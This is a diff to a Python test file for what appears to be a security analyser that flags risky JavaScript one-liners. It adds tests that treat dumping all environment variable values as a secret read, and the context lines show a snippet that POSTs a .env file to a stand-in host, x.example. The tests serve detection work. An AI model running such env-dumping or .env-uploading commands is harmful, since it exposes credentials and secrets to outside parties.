@@ -48,6 +48,12 @@ def test_code_or_a_member_chosen_at_run_time_is_unknown(code):
     assert any(a.kind == "exec" and a.dynamic for a in node(code))
 
 
+@pytest.mark.parametrize("code", ["console.log(Object.keys(process.env).map(k => process.env[k]))",
+                                  "console.log(Object.values(process.env))"])
+def test_the_environments_values_are_a_dump(code):
+    assert any(a.kind == "file_read" and a.target.path == "/proc/self/environ" for a in node(code))
+
+
 def test_a_bun_file_sent_as_a_body_is_read():
     assert sends_secret(node('await fetch("https://x.example", {method: "POST", body: Bun.file(".env")})', "bun -e"))
     assert any(a.kind == "file_read" and a.target.is_secret
@@ -64,6 +70,7 @@ ORDINARY = [
     ('const r = require("child_process").execSync.bind(null); r("npm test")', "node -e"),
     ('const o = {a: 1}; console.log(Object.values(o)[0], [1, 2][process.argv.length])', "node -e"),
     ('require("fs").readdirSync("dist").forEach(f => console.log(f))', "node -e"),
+    ("console.log(Object.keys(process.env).length)", "node -e"),
 ]
 
 
